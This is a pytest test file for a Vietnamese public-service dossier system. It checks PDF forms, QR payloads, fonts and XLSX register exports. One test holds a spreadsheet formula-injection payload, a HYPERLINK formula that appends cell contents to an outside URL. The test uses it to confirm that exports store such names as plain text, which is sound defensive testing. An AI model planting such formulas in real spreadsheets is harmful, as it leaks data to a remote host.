"""Forms 01-07 as PDF and the register as XLSX, read back with pypdf / openpyxl."""

from __future__ import annotations

import dataclasses
import json
from datetime import date, datetime, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook
from PIL import Image

from cchc.dossiers import services as s
from cchc.dossiers.constants import DossierStatus
from cchc.dossiers.documents.constants import DocumentError, DocumentErrorCode
from cchc.dossiers.documents.qr import qr_payload
from cchc.dossiers.documents.selectors import (
    dossier_form_context,
    dossier_form_pdf,
    dossier_forms_available,
    dossier_register_pdf,
    dossier_register_rows,
    dossier_register_xlsx,
)
from cchc.dossiers.documents.text import date_line, date_words
from cchc.dossiers.models import Dossier
from cchc.dossiers.tests.conftest import AT, CITIZEN, VN, World, to_status
from cchc.dossiers.tests.documents.conftest import A4, A4_LANDSCAPE, A5, extended, page_size, pdf_text, read_pdf

JANUARY = (date(2026, 1, 1), date(2026, 1, 31))


def test_date_words_follow_decree_30() -> None:
    assert date_words(date(2026, 1, 5)) == "ngày 05 tháng 01 năm 2026"
    assert date_words(date(2019, 6, 29)) == "ngày 29 tháng 6 năm 2019"
    assert date_words(date(2025, 2, 10)) == "ngày 10 tháng 02 năm 2025"
    assert date_words(date(2025, 12, 1)) == "ngày 01 tháng 12 năm 2025"
    assert date_line("Khánh Hòa", date(2026, 1, 5)) == "Khánh Hòa, ngày 05 tháng 01 năm 2026"


def test_qr_payload_carries_the_identifiers() -> None:
    payload = qr_payload(
        form=1,
        document_name="Giấy tiếp nhận hồ sơ và hẹn trả kết quả",
        dossier_code="56-260105-0001",
        procedure_code="9.000101",
        applicant_id="056190001234",
    )
    assert json.loads(payload) == {
        "dinh_dang": "cchc-qr/1",
        "mau": "01",
        "ma_ho_so": "56-260105-0001",
        "ma_tthc": "9.000101",
        "ma_dinh_danh": "056190001234",
        "ten_giay_to": "Giấy tiếp nhận hồ sơ và hẹn trả kết quả",
    }


def _embedded_fonts(content: bytes) -> set[str]:
    names: set[str] = set()
    for page in read_pdf(content).pages:
        fonts = page["/Resources"]["/Font"]
        for ref in fonts.values():
            font = ref.get_object()
            names.add(str(font["/BaseFont"]).split("+")[-1])
    return names


def test_form_01_receipt_and_appointment(returned: Dossier) -> None:
    # when
    content = dossier_form_pdf(dossier=returned, form=1)

    # then: A5, one page, the key lines with their diacritics
    assert page_size(content) == A5
    text = pdf_text(content)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert "UBND TỈNH KHÁNH HÒA" in text
    assert "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ" in text
    assert f"Mã hồ sơ: {returned.code}" in text
    assert "Khánh Hòa, ngày 05 tháng 01 năm 2026" in text
    assert "Nguyễn Thị Lan" in text
    assert "Cấp Phiếu lý lịch tư pháp" in text
    assert "Tờ khai yêu cầu cấp Phiếu lý lịch tư pháp" in text
    assert "5 ngày làm việc" in text
    assert "08 giờ 00 phút, thứ Hai, ngày 05 tháng 01 năm 2026" in text  # received
    assert "08 giờ 00 phút, thứ Bảy, ngày 10 tháng 01 năm 2026" in text  # appointment (swapped Saturday)
    assert "200.000 đồng" in text
    # the shipped font (loaded under its @font-face family name), and nothing else, is embedded
    assert _embedded_fonts(content) == {
        "CCHC-Liberation-Serif",
        "CCHC-Liberation-Serif-Bold",
        "CCHC-Liberation-Serif-Italic",
    }


def test_embedded_font_is_the_shipped_version_2(returned: Dossier) -> None:
    from fontTools.ttLib import TTFont

    reader = read_pdf(dossier_form_pdf(dossier=returned, form=1))
    font = reader.pages[0]["/Resources"]["/Font"]
    versions = set()
    for ref in font.values():
        font_object = ref.get_object()
        if "/DescendantFonts" in font_object:  # Type0 composite font
            font_object = font_object["/DescendantFonts"][0].get_object()
        descriptor = font_object["/FontDescriptor"].get_object()
        data = descriptor["/FontFile2"].get_object().get_data()
        versions.add(TTFont(BytesIO(data))["head"].fontRevision)
    # Debian's system Liberation is 1.07; the shipped files are 2.1.5 (with every Vietnamese glyph)
    assert versions
    assert all(v >= 2 for v in versions)


def test_form_qr_image_encodes_the_payload(returned: Dossier) -> None:
    import segno

    context = dossier_form_context(dossier=returned, form=1)
    data = json.loads(context["qr_payload"])
    assert data["ma_ho_so"] == returned.code
    assert data["ma_tthc"] == "9.000101"
    assert data["ma_dinh_danh"] == "056190001234"
    assert data["ten_giay_to"] == "Giấy tiếp nhận hồ sơ và hẹn trả kết quả"

    # the PDF's image is the QR symbol of that payload, module for module
    images = read_pdf(dossier_form_pdf(dossier=returned, form=1)).pages[0].images
    assert len(images) == 1
    image = images[0].image
    assert image is not None
    expected = segno.make(context["qr_payload"], error="m", micro=False, boost_error=False)
    buffer = BytesIO()
    expected.save(buffer, kind="png", scale=4, border=1)
    buffer.seek(0)
    want = Image.open(buffer).convert("1")
    assert image.convert("1").size == want.size
    assert image.convert("1").tobytes() == want.tobytes()


def test_form_06_process_control_sheet(returned: Dossier) -> None:
    content = dossier_form_pdf(dossier=returned, form=6)
    assert page_size(content) == A5
    text = pdf_text(content)
    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in text
    assert returned.code in text
    assert "Giao: Sở Tư pháp" in text
    assert "Nhận: Người nộp hồ sơ" in text
    assert "Trước hạn" in text
    assert "Người giao:" in text
    assert returned.handovers.count() == 4


@pytest.mark.parametrize(
    ("status", "form", "title", "key"),
    [
        (DossierStatus.SUPPLEMENT_REQUESTED, 2, "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ", "Bổ sung tờ khai"),
        (DossierStatus.REFUSED, 3, "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ", "Sai thủ tục"),
        (DossierStatus.STOPPED, 5, "THÔNG BÁO", "Người nộp đề nghị dừng"),
    ],
)
def test_forms_02_03_05(world: World, status: DossierStatus, form: int, title: str, key: str) -> None:
    dossier = to_status(world, status)
    content = dossier_form_pdf(dossier=dossier, form=form)
    assert page_size(content) == (A4 if form == 5 else A5)  # a letter (NĐ 30/2020) or a slip
    text = pdf_text(content)
    assert title in text
    assert key in text
    assert "Nguyễn Thị Lan" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    if form == 5:
        assert "Dừng giải quyết hồ sơ" in text
        assert "SỞ TƯ PHÁP" in text  # issued by the competent agency
        assert "Nơi nhận:" in text


def test_form_04_apology_and_new_appointment(world: World) -> None:
    dossier = extended(world)
    text = pdf_text(dossier_form_pdf(dossier=dossier, form=4))
    assert "VĂN BẢN XIN LỖI VÀ ĐỀ NGHỊ GIA HẠN" in text
    assert "Cần xác minh thông tin tại cơ quan công an." in text
    assert "16 giờ 30 phút, thứ Ba, ngày 20 tháng 01 năm 2026" in text
    assert "Khánh Hòa, ngày 08 tháng 01 năm 2026" in text
    assert "Nơi nhận:" in text


def test_form_01_prints_the_appointment_given_at_reception(world: World) -> None:
    # given a dossier whose appointment an apology (form 04) moved to 20/01
    dossier = extended(world)
    assert dossier.due_at == datetime(2026, 1, 20, 16, 30, tzinfo=VN)
    # when its receipt slip is printed again, then it shows the appointment given at reception
    text = pdf_text(dossier_form_pdf(dossier=dossier, form=1))
    assert "08 giờ 00 phút, thứ Bảy, ngày 10 tháng 01 năm 2026" in text
    assert "ngày 20 tháng 01 năm 2026" not in text


def test_the_register_shows_the_statutory_and_the_new_appointment(world: World) -> None:
    # given an extended dossier processed after its statutory appointment, before the new one
    dossier = extended(world)
    s.dossier_complete_step(dossier=dossier, actor=world.specialist, at=AT + timedelta(days=4), receiver=world.leader)
    s.dossier_mark_processed(dossier=dossier, actor=world.leader, at=datetime(2026, 1, 13, 9, 0, tzinfo=VN))
    # then the register judges it late against the statutory appointment, and shows both dates
    row = next(r for r in dossier_register_rows(agency=world.centre, start=JANUARY[0], end=JANUARY[1]))
    assert (row.due_at, row.extended_due_at) == (
        datetime(2026, 1, 10, 8, 0, tzinfo=VN),
        datetime(2026, 1, 20, 16, 30, tzinfo=VN),
    )
    assert row.timeliness == "Quá hạn"
    sheet = load_workbook(BytesIO(dossier_register_xlsx(agency=world.centre, start=JANUARY[0], end=JANUARY[1]))).active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    line = next(sheet.iter_rows(min_row=2, values_only=True))
    assert line[headers.index("Hẹn trả kết quả")] == datetime(2026, 1, 10, 8, 0)
    assert line[headers.index("Hẹn trả mới (xin lỗi, gia hạn)")] == datetime(2026, 1, 20, 16, 30)
    assert line[headers.index("Kết quả (đúng hạn / quá hạn)")] == "Quá hạn"
    text = pdf_text(dossier_register_pdf(agency=world.centre, start=JANUARY[0], end=JANUARY[1]))
    assert "hẹn lại:" in text
    assert "Quá hạn" in text


def test_the_register_ends_a_dossier_stopped_without_its_supplement_at_the_request(world: World) -> None:
    dossier = to_status(world, DossierStatus.SUPPLEMENT_REQUESTED)  # requested 09:00 on 05/01, due 10/01
    s.dossier_stop(
        dossier=dossier, actor=world.leader, at=datetime(2026, 1, 26, 9, 0, tzinfo=VN), reason="Không bổ sung"
    )
    row = next(r for r in dossier_register_rows(agency=world.centre, start=JANUARY[0], end=JANUARY[1]))
    assert row.timeliness == "Trước hạn"


@pytest.mark.parametrize(
    ("status", "form"),
    [
        (DossierStatus.RETURNED, 3),
        (DossierStatus.RETURNED, 5),
        (DossierStatus.RETURNED, 2),
        (DossierStatus.RETURNED, 4),
        (DossierStatus.REFUSED, 1),
        (DossierStatus.REFUSED, 6),
    ],
)
def test_form_that_does_not_apply_is_refused(world: World, status: DossierStatus, form: int) -> None:
    dossier = to_status(world, status)
    with pytest.raises(DocumentError) as caught:
        dossier_form_pdf(dossier=dossier, form=form)
    assert caught.value.code == DocumentErrorCode.FORM_NOT_APPLICABLE
    assert "Mẫu" in caught.value.message


def test_unknown_and_register_form_numbers_are_refused(returned: Dossier) -> None:
    with pytest.raises(DocumentError) as unknown:
        dossier_form_pdf(dossier=returned, form=8)
    assert unknown.value.code == DocumentErrorCode.FORM_UNKNOWN
    with pytest.raises(DocumentError) as register:
        dossier_form_pdf(dossier=returned, form=7)
    assert register.value.code == DocumentErrorCode.FORM_NOT_APPLICABLE


def test_forms_available_follow_the_history(world: World) -> None:
    assert dossier_forms_available(dossier=to_status(world, DossierStatus.RETURNED)) == [1, 6]
    assert dossier_forms_available(dossier=to_status(world, DossierStatus.REFUSED)) == [3]
    assert dossier_forms_available(dossier=to_status(world, DossierStatus.SUPPLEMENT_REQUESTED)) == [1, 2, 6]
    assert dossier_forms_available(dossier=extended(world)) == [1, 4, 6]
    assert dossier_forms_available(dossier=to_status(world, DossierStatus.STOPPED)) == [1, 5, 6]


def _register_world(world: World) -> dict[str, Dossier]:
    return {
        "returned": to_status(world, DossierStatus.RETURNED),
        "refused": to_status(world, DossierStatus.REFUSED),
        "waiting": to_status(world, DossierStatus.SUPPLEMENT_REQUESTED),
    }


def test_register_rows(world: World) -> None:
    made = _register_world(world)
    rows = dossier_register_rows(agency=world.centre, start=JANUARY[0], end=JANUARY[1])
    assert [r.number for r in rows] == [1, 2, 3]
    by_code = {r.code: r for r in rows}
    assert by_code[made["returned"].code].timeliness == "Trước hạn"
    assert by_code[made["returned"].code].status == "Đã trả kết quả"
    assert by_code[made["waiting"].code].timeliness == "Tạm dừng (chờ bổ sung)"
    assert by_code[""].note == "Sai thủ tục"
    # the competent agency keeps the same dossiers in its register; another period is empty
    assert len(dossier_register_rows(agency=world.justice, start=JANUARY[0], end=JANUARY[1])) == 3
    assert dossier_register_rows(agency=world.centre, start=date(2026, 2, 1), end=date(2026, 2, 28)) == []
    assert dossier_register_rows(agency=world.nha_trang, start=JANUARY[0], end=JANUARY[1]) == []


def test_register_pdf(world: World) -> None:
    made = _register_world(world)
    content = dossier_register_pdf(agency=world.centre, start=JANUARY[0], end=JANUARY[1])
    assert page_size(content) == A4_LANDSCAPE
    text = pdf_text(content)
    assert "SỔ THEO DÕI HỒ SƠ" in text
    assert "Từ ngày 01 tháng 01 năm 2026 đến ngày 31 tháng 01 năm 2026" in text
    assert made["returned"].code in text
    assert "Nguyễn Thị Lan" in text
    assert "Trước hạn" in text
    assert len(read_pdf(content).pages[0].images) == 1  # the QR code


def test_register_xlsx(world: World) -> None:
    made = _register_world(world)
    content = dossier_register_xlsx(agency=world.centre, start=JANUARY[0], end=JANUARY[1])
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    assert headers[:5] == ["STT", "Mã hồ sơ", "Người nộp hồ sơ", "Số định danh", "Mã TTHC"]
    assert "Ngày tiếp nhận" in headers
    assert "Hẹn trả kết quả" in headers
    assert "Kết quả (đúng hạn / quá hạn)" in headers
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["F"].width == 45
    assert sheet.max_row == 4
    rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    returned = rows[made["returned"].code]
    received = returned[headers.index("Ngày tiếp nhận")]
    assert isinstance(received, datetime)
    assert received == datetime(2026, 1, 5, 8, 0)  # Vietnam wall-clock time
    assert returned[headers.index("Hẹn trả kết quả")] == datetime(2026, 1, 10, 8, 0)
    assert returned[headers.index("Thủ tục hành chính")] == "Cấp Phiếu lý lịch tư pháp"
    assert returned[headers.index("Kết quả (đúng hạn / quá hạn)")] == "Trước hạn"
    cell = sheet.cell(row=2, column=headers.index("Ngày tiếp nhận") + 1)
    assert cell.is_date


def test_register_period_is_checked(world: World) -> None:
    with pytest.raises(DocumentError) as reversed_period:
        dossier_register_xlsx(agency=world.centre, start=date(2026, 2, 1), end=date(2026, 1, 1))
    assert reversed_period.value.code == DocumentErrorCode.INVALID_PERIOD
    with pytest.raises(DocumentError):
        dossier_register_pdf(agency=world.centre, start=date(2025, 1, 1), end=date(2026, 1, 31))


def test_register_xlsx_keeps_a_formula_typed_as_a_name_as_text(world: World) -> None:
    # given: an applicant whose name is a spreadsheet formula (submitted on the portal)
    hostile = '=HYPERLINK("http://x/?"&A1,"Bấm")'
    applicant = dataclasses.replace(CITIZEN, name=hostile)
    s.dossier_receive_counter(
        procedure=world.province_procedure,
        applicant=applicant,
        receiving_agency=world.centre,
        competent_agency=world.justice,
        actor=world.reception,
        at=datetime(2026, 1, 5, 8, 0, tzinfo=VN),
    )

    # when
    content = dossier_register_xlsx(agency=world.centre, start=JANUARY[0], end=JANUARY[1])

    # then: the name is a string cell holding exactly what was typed, never a formula
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=3)
    assert cell.value == hostile
    assert cell.data_type == "s"
